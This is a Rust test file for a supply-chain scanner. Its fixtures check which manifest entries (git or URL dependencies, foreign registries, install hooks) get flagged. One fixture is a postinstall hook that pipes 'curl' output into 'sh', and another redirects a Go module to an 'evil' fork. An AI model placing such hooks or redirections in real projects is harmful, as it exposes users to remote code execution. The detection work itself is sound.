use super::*;

fn finds(path: &str, text: &str) -> bool {
    manifest(path).is_some_and(|manifest| suspect(manifest, text, |place| place == "github.com/acme/ok").is_some())
}

#[test]
fn what_is_suspect() {
    for (path, text) in [
        ("package.json", r#""left": "git+https://github.com/x/y.git","#),
        ("/a/package.json", r#"{"dependencies":{"a":"github:x/y"}}"#),
        ("package.json", r#""a": "https://example.com/a.tgz""#),
        ("package.json", r#""evil": "npm:real@1""#),
        ("package.json", r#"{"dependencies":{"a":"x/y"}}"#),
        ("package.json", "{\n  \"devDependencies\": {\n    \"a\": \"1\",\n    \"b\": \"x/y\"\n  }\n}"),
        ("package.json", r#"{"dependencies":{"url":"https://example.com/x"}}"#),
        ("package.json", r#""postinstall": "curl https://example.com/x | sh""#),
        ("package.json", r#""a": "file:../../x""#),
        ("requirements.txt", "flask\ngit+https://github.com/x/y"),
        ("requirements-dev.txt", "y @ git+https://github.com/x/y"),
        ("requirements/base.txt", "--index-url http://example.com/simple"),
        ("requirements.txt", "-e git+ssh://git@github.com/x/y#egg=y"),
        ("Cargo.toml", "[dependencies]\nx = { git = \"https://github.com/x/y\" }"),
        ("Cargo.toml", "[dependencies.x]\ngit = \"https://github.com/x/y\""),
        ("Cargo.toml", "[dependencies]\nx = { \"git\" = \"https://github.com/x/y\" }"),
        ("Cargo.toml", "[dependencies]\nx.git = \"https://github.com/x/y\""),
        ("pyproject.toml", "dependencies = [\n \"x @ git+https://github.com/x/y\",\n]"),
        ("pyproject.toml", "x = { git = 'https://github.com/x/y' }"),
        ("Gemfile", "gem 'x', git: 'https://github.com/x/y'"),
        ("Gemfile", "gem 'x', github: 'x/y'"),
        ("Gemfile", "source 'http://rubygems.org'"),
        ("go.mod", "replace github.com/a/b => github.com/evil/b v1.0.0"),
        ("composer.json", r#"{"type":"vcs","url":"https://github.com/x/y"}"#),
        (".npmrc", "registry=http://example.com"),
        (".npmrc", "ignore-scripts=false"),
        (".npmrc", "@acme:registry=https://example.com/"),
        (".yarnrc.yml", "npmRegistryServer: https://example.com/?a=b"),
        ("pip.conf", "[global]\nindex-url = https://example.com/simple"),
    ] {
        assert!(finds(path, text), "{path}: {text}");
    }
}

#[test]
fn what_is_not() {
    for (path, text) in [
        ("package.json", r#"{"dependencies":{"a":"^1.0.0","@x/y":"workspace:*"}}"#),
        ("package.json", r#""repository": {"type": "git", "url": "git+https://github.com/x/y.git"}"#),
        ("package.json", r#""homepage": "https://github.com/x/y""#),
        ("package.json", r#""postinstall": "husky install""#),
        ("package.json", r#""main": "dist/index.js", "build": "tsc -p .""#),
        ("package.json", r#""a": "github:acme/ok""#),
        ("package.json", r#"{"dependencies":{"a":"^1.0.0"},"files":["dist/x"],"types":"dist/index"}"#),
        ("package.json", r#"{"dependencies":{"a":"1.0 - 2.0","b":"file:./b"},"repository":"x/y"}"#),
        ("requirements.txt", "flask==2.0\n# git+https://github.com/x/y"),
        (
            "Cargo.toml",
            "[package]\nrepository = \"https://github.com/x/y\"\n[dependencies]\nserde = \"1\"\nx = { path = \"../x\" }",
        ),
        ("pyproject.toml", "[project.urls]\nHomepage = \"https://github.com/x/y\"\nurl = \"https://example.com\""),
        ("Gemfile", "source 'https://rubygems.org'\ngem 'rails', '~> 7'"),
        ("go.mod", "require github.com/a/b v1.0.0\nreplace x => ./x"),
        (".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true"),
        ("README.md", "git+https://github.com/x/y"),
    ] {
        assert!(!finds(path, text), "{path}: {text}");
    }
}
